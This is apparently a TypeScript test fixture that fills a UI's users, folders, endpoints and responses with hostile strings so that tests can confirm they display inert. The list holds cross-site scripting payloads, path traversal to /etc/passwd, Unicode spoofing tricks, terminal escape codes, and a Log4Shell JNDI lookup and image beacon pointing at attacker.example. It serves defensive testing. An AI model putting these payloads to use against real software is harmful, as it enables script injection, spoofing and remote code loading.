// The hostile dataset: the same activity, but every name, path, address, endpoint and listener
// response is an attack on whatever displays it. UI tests assert these exact texts come out inert.
import type { Vocabulary } from './vocabulary';

const CONTROL_CHARACTERS = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007f';

export const HOSTILE_STRINGS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  '[click](command:workbench.action.terminal.new)',
  '![x](https://attacker.example/x.png)',
  '$(alert) **bold** <b>b</b>',
  `ctl${CONTROL_CHARACTERS}end`,
  '\u001b[2J\u001b[31mred\u001b[0m',
  'line1\r\nline2',
  // Right-to-left override: shows as "invoiceexe.pdf".
  'invoice\u202efdp.exe',
  // Zero-width space, non-joiner, joiner and BOM: looks like "admin".
  'ad\u200bmi\u200c\u200dn\ufeff',
  'javascript:alert(1)',
  '%2e%2e/%2e%2e/etc/passwd',
  '../../etc/passwd',
  '#fragment',
  '?query=1&x=2',
  '${jndi:ldap://attacker.example/a} {{7*7}}',
  `long-${'x'.repeat(100 * 1024 - 5)}`,
];

/** The vocabulary with every string a person would see replaced by a payload; shapes and timing stay. */
export function hostileVocabulary(base: Vocabulary): Vocabulary {
  const payload = (n: number): string => HOSTILE_STRINGS[n % HOSTILE_STRINGS.length]!;
  return {
    ...base,
    users: base.users.map((user, i) => ({ ...user, name: payload(i), ipAddresses: [payload(i + 3), payload(i + 7)] })),
    folders: base.folders.map((folder, i) => ({ ...folder, path: `/${payload(i)}/${payload(i + 5)}` })),
    fileName: (_folder, n) => payload(n),
    attackerIps: HOSTILE_STRINGS,
    guessedUsernames: HOSTILE_STRINGS,
    // Folders are payloads now, so every listener watches the root to still receive events.
    endpoints: base.endpoints.map((endpoint, i) => ({ ...endpoint, url: payload(i * 3), watches: '/', ok: { ...endpoint.ok, response: payload(i * 3 + 1) } })),
    outageAnswers: base.outageAnswers.map((answer, i) => ({ ...answer, response: payload(i + 2) })),
    strayFailures: base.strayFailures.map((answer, i) => ({ ...answer, response: payload(i + 9) })),
  };
}
